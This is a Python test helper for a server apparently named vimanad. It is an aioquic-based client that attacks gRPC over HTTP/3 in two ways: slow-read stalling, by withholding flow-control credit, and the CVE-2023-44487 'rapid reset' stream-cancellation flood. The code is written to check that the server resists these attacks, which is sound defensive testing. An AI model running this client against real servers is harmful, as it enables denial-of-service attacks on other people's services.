#!/usr/bin/env python3
"""An abusive gRPC-over-HTTP/3 client for vimanad's tests, built on aioquic
(nobody here wrote it). Reads a JSON spec on stdin, prints a JSON result.

Spec: {"connect": "HOST:PORT", "authority": "example.com", "mode": ..., ...}

mode "stall": `connections` QUIC connections each open `streams` calls to
  `path` with request message `message_hex`, and then stop reading: the
  client's flow-control windows never open again (`max_stream_data` bytes
  per stream, as advertised at the start), though it still takes in what
  fits in them (response headers included). After `hold_s` seconds the
  client reads again (when `read_after`) until each call has ended or
  received bytes since, for up to `drain_s` seconds, or leaves.
  Result: {"opened": n, "calls": [{"grpc_status", "grpc_message",
  "messages", "partial_bytes", "headers", "served_again", "error",
  "reset_code"}], "errors": [connection errors]}.

mode "rapid_reset": one connection opens calls to `path` (request message
  `message_hex`) and cancels each at once (RESET_STREAM + STOP_SENDING,
  H3_REQUEST_CANCELLED), as fast as it can, for up to `duration_s`.
  Result: {"opened": n, "close_code": the server's CONNECTION_CLOSE error
  code or null, "closed_after_s": float or null, "reason": str or null}.
"""

import asyncio
import json
import ssl
import struct
import sys
import time

from aioquic.asyncio.client import connect
from aioquic.asyncio.protocol import QuicConnectionProtocol
from aioquic.h3.connection import H3_ALPN, H3Connection
from aioquic.h3.events import DataReceived, HeadersReceived
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.events import ConnectionTerminated, StreamReset

H3_REQUEST_CANCELLED = 0x10C

# A stalled connection sends no MAX_DATA / MAX_STREAM_DATA: it reads nothing.
_write_connection_limits = QuicConnection._write_connection_limits
_write_stream_limits = QuicConnection._write_stream_limits


def _connection_limits(self, *args, **kwargs):
    if getattr(self, "stalled", False):
        return None
    return _write_connection_limits(self, *args, **kwargs)


def _stream_limits(self, *args, **kwargs):
    if getattr(self, "stalled", False):
        return None
    return _write_stream_limits(self, *args, **kwargs)


QuicConnection._write_connection_limits = _connection_limits
QuicConnection._write_stream_limits = _stream_limits


class Call:
    def __init__(self):
        self.buf = bytearray()
        self.messages = 0
        # Bytes came after the client started reading again.
        self.served_again = False
        self.reading = False
        self.headers = []
        self.trailers = []
        self.error = None
        self.reset_code = None
        self.done = asyncio.Event()

    def settled(self):
        return self.done.is_set() or self.served_again

    def result(self):
        fields = self.trailers or self.headers
        status = next((v for k, v in fields if k == "grpc-status"), None)
        message = next((v for k, v in fields if k == "grpc-message"), None)
        return {
            "grpc_status": int(status) if status is not None and status.isdigit() else None,
            "grpc_message": message,
            "messages": self.messages,
            "partial_bytes": len(self.buf),
            "headers": bool(self.headers),
            "served_again": self.served_again,
            "error": self.error,
            "reset_code": self.reset_code,
        }


class Client(QuicConnectionProtocol):
    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.http = H3Connection(self._quic)
        self.calls = {}
        self.closed = None

    def quic_event_received(self, event):
        if isinstance(event, ConnectionTerminated):
            self.closed = (event.error_code, event.reason_phrase, time.monotonic())
            for call in self.calls.values():
                call.error = call.error or f"connection closed 0x{event.error_code:x}"
                call.done.set()
            return
        if isinstance(event, StreamReset) and event.stream_id in self.calls:
            call = self.calls[event.stream_id]
            call.reset_code = event.error_code
            call.done.set()
        for ev in self.http.handle_event(event):
            call = self.calls.get(getattr(ev, "stream_id", None))
            if call is None:
                continue
            call.served_again |= call.reading
            if isinstance(ev, HeadersReceived):
                fields = [(k.decode(), v.decode("utf-8", "replace")) for k, v in ev.headers]
                if call.headers:
                    call.trailers = fields
                else:
                    call.headers = fields
            elif isinstance(ev, DataReceived):
                call.buf += ev.data
                while len(call.buf) >= 5:
                    (length,) = struct.unpack(">I", call.buf[1:5])
                    if len(call.buf) < 5 + length:
                        break
                    del call.buf[: 5 + length]
                    call.messages += 1
            if getattr(ev, "stream_ended", False):
                call.done.set()

    def start_call(self, spec, message):
        sid = self._quic.get_next_available_stream_id()
        call = Call()
        self.calls[sid] = call
        headers = [
            (b":method", b"POST"),
            (b":scheme", b"https"),
            (b":authority", spec["authority"].encode()),
            (b":path", spec["path"].encode()),
            (b"content-type", b"application/grpc"),
            (b"te", b"trailers"),
        ]
        self.http.send_headers(sid, headers)
        self.http.send_data(sid, b"\0" + struct.pack(">I", len(message)) + message, end_stream=True)
        return sid, call

    def stream_credit(self):
        """Bidirectional streams the server's MAX_STREAMS still allows
        (aioquic's own counters: it has no public accessor)."""
        quic = self._quic
        return max(0, quic._remote_max_streams_bidi - quic._local_next_stream_id_bidi // 4)

    def cancel(self, sid):
        for stop in (self._quic.reset_stream, self._quic.stop_stream):
            try:
                stop(sid, H3_REQUEST_CANCELLED)
            except Exception:
                pass


def configuration(spec):
    return QuicConfiguration(
        is_client=True,
        alpn_protocols=H3_ALPN,
        verify_mode=ssl.CERT_NONE,
        server_name=spec["authority"],
        idle_timeout=60,
        max_data=spec.get("max_data", 1 << 20),
        max_stream_data=spec.get("max_stream_data", 64 * 1024),
    )


def address(spec):
    host, _, port = spec["connect"].rpartition(":")
    return host.strip("[]"), int(port)


async def stall_one(spec, message, results, errors, ready):
    host, port = address(spec)
    async with connect(host, port, configuration=configuration(spec), create_protocol=Client) as client:
        client._quic.stalled = True
        calls = [client.start_call(spec, message)[1] for _ in range(spec["streams"])]
        client.transmit()
        ready.append(len(calls))
        await asyncio.sleep(spec["hold_s"])
        if spec.get("read_after"):
            client._quic.stalled = False
            for c in calls:
                c.reading = True
            client.transmit()
            # Until every call has ended or is being served again (a call
            # the server let live streams on: its 100 MB would take long).
            deadline = time.monotonic() + spec.get("drain_s", 10)
            while time.monotonic() < deadline and not all(c.settled() for c in calls):
                await asyncio.sleep(0.05)
        results.extend(c.result() for c in calls)
        if client.closed:
            errors.append(f"closed 0x{client.closed[0]:x} {client.closed[1]!r}")
        client.close()


async def stall(spec):
    message = bytes.fromhex(spec["message_hex"])
    results, errors, ready = [], [], []
    await asyncio.gather(
        *(stall_one(spec, message, results, errors, ready) for _ in range(spec["connections"])),
        return_exceptions=False,
    )
    return {"opened": sum(ready), "calls": results, "errors": errors}


async def rapid_reset(spec):
    message = bytes.fromhex(spec["message_hex"])
    host, port = address(spec)
    opened, started = 0, None
    async with connect(host, port, configuration=configuration(spec), create_protocol=Client) as client:
        started = time.monotonic()
        while client.closed is None and time.monotonic() - started < spec["duration_s"]:
            # The request goes out first, its cancellation right behind it
            # (the HTTP/2 "rapid reset" of CVE-2023-44487, over HTTP/3),
            # within the streams the server allows, as that attack stays
            # within SETTINGS_MAX_CONCURRENT_STREAMS. (aioquic would queue
            # streams past the limit and still send their RESET_STREAM,
            # which the server rightly closes as STREAM_LIMIT_ERROR.)
            credit = client.stream_credit()
            if credit == 0:
                await asyncio.sleep(0.001)
                continue
            sids = [client.start_call(spec, message)[0] for _ in range(min(16, credit))]
            client.transmit()
            for sid in sids:
                client.cancel(sid)
            opened += len(sids)
            client.transmit()
            await asyncio.sleep(0)  # let the replies in
        await asyncio.sleep(0.5)
        closed = client.closed
    return {
        "opened": opened,
        "close_code": closed[0] if closed else None,
        "reason": closed[1] if closed else None,
        "closed_after_s": round(closed[2] - started, 3) if closed else None,
    }


def main():
    spec = json.loads(sys.stdin.read())
    mode = {"stall": stall, "rapid_reset": rapid_reset}[spec["mode"]]
    result = asyncio.run(asyncio.wait_for(mode(spec), spec.get("timeout_s", 60)))
    print(json.dumps(result))


if __name__ == "__main__":
    main()
